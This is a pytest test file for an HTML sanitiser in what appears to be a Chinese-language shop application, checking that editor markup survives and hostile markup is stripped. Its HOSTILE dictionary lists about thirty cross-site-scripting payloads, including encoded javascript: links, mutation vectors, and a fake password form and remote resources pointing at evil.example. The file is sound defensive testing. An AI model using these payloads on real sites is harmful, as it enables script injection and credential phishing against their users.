import re

import pytest

from goods.rich_text import clean

HOSTILE = {
    "script": "<p>好<script>alert(1)</script></p>",
    "script in pieces": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "open script": "<p>好</p><script>alert(1)",
    "listener": '<p onclick="alert(1)" onmouseover=alert(1)>好</p>',
    "listener of a picture": '<img src="/media/a.webp" onerror="alert(1)">',
    "picture that fails": "<img src=x onerror=alert(1)//",
    "javascript link": '<a href="javascript:alert(1)">好</a>',
    "javascript link in entities": '<a href="&#106;ava&#115;cript&colon;alert(1)">好</a>',
    "javascript link with a tab": '<a href="java\tscript:alert(1)">好</a>',
    "javascript link after a control character": '<a href="\x01javascript:alert(1)">好</a>',
    "vbscript link": '<a href="VBScript:msgbox(1)">好</a>',
    "data link": '<a href="data:text/html;base64,PHNjcmlwdD4=">好</a>',
    "link that leaves the site": '<a href="//evil.example/">好</a><a href="/\\evil.example/">好</a>',
    "data picture": '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "foreign picture": '<img src="https://evil.example/pixel.gif">',
    "picture above the folder": '<img src="/media/../logout/"><img src="/media/%2e%2e/logout/">',
    "further picture": '<img src="/media/a.webp" srcset="https://evil.example/a 2x">',
    "style": '<p style="position:fixed;inset:0;background:url(javascript:alert(1))">好</p>',
    "style sheet": "<style>*{display:none}</style><link rel=stylesheet href=https://evil.example/a.css>",
    "frame": '<iframe src="https://evil.example/" srcdoc="<script>alert(1)</script>">好</iframe>',
    "object": '<object data="evil.swf"></object><embed src="evil.swf">',
    "form": '<form action="https://evil.example/"><input name="password"><button>登录</button></form>',
    "drawing": '<svg><a xlink:href="javascript:alert(1)"><script>alert(1)</script></a></svg>',
    "mutation": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "mutation by noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "comment": "<!--[if IE]><script>alert(1)</script><![endif]--><!--><img src=x onerror=alert(1)>-->",
    "base and meta": '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=//evil.example">',
    "id that hides an element": '<p id="main" class="masthead" name="csrf">好</p>',
    "text that ends a tag": '<img src="/media/a.webp" alt="&quot;><script>alert(1)</script>">',
    "null": "<scr\0ipt>alert(1)</scr\0ipt>",
    "never closed": '<a href="https://a.example/" title="<script>alert(1)',
    "table": '<table background="javascript:alert(1)"><tr><td colspan="99999" rowspan="-1">好</table>',
}
_ALLOWED = re.compile(
    r"</?(h3|h4|p|br|strong|em|ul|ol|li|table|caption|thead|tbody|tr|th|td)>"
    r'|</a>|<a( href="(https?://|/)[\w./-]+")? rel="nofollow noopener noreferrer">'
    r'|<img( src="/media/a\.webp")?( alt="[^"<>]*")? loading="lazy">'
)


@pytest.mark.parametrize("html", HOSTILE.values(), ids=HOSTILE)
def test_hostile_html_leaves_nothing_but_allowed_tags(html):
    cleaned = clean(html)

    assert re.search("[<>]", _ALLOWED.sub("", cleaned)) is None
    assert clean(cleaned) == cleaned


@pytest.mark.parametrize(
    "html",
    [
        "<h3>屏幕</h3><p>又<strong>亮</strong>又<em>省</em>电<br>好用</p>",
        "<ul><li>一</li></ul><ol><li>二</li></ol>",
        '<table><thead><tr><th scope="col" colspan="2">参数</th></tr></thead>'
        '<tbody><tr><td rowspan="2">重量</td><td>180 克</td></tr></tbody></table>',
        '<img src="/media/goods/a-1.webp" alt="正面" width="960" height="720" loading="lazy">',
        '<a href="https://example.com/?a=1&amp;b=2" rel="nofollow noopener noreferrer">说明书</a>',
        '<a href="/list/1/1/" rel="nofollow noopener noreferrer">同类</a>',
        "3 &lt; 5 &amp; 7 &gt; 6",
        "",
    ],
)
def test_what_editors_may_write_stays_as_it_is(html):
    assert clean(html) == html


def test_words_stay_when_their_tag_goes():
    assert clean("<div><h1>屏幕</h1><blink>亮</blink><b>大</b></div>") == "屏幕亮大"


def test_what_was_never_meant_to_be_read_goes_with_its_tag():
    assert clean("前<script>一</script><style>二</style><iframe>三</iframe><svg>四</svg>后") == "前后"


def test_pictures_are_those_of_our_own_storage_wherever_that_is(settings):
    settings.MEDIA_URL = "https://img.example/"

    assert clean('<img src="https://img.example/a.webp">') == '<img src="https://img.example/a.webp" loading="lazy">'
    assert clean('<img src="/media/a.webp">') == '<img loading="lazy">'


def test_links_say_that_we_do_not_vouch_for_them():
    assert clean('<a href="https://a.example/" rel="opener me" target="_top">好</a>') == (
        '<a href="https://a.example/" rel="nofollow noopener noreferrer">好</a>'
    )
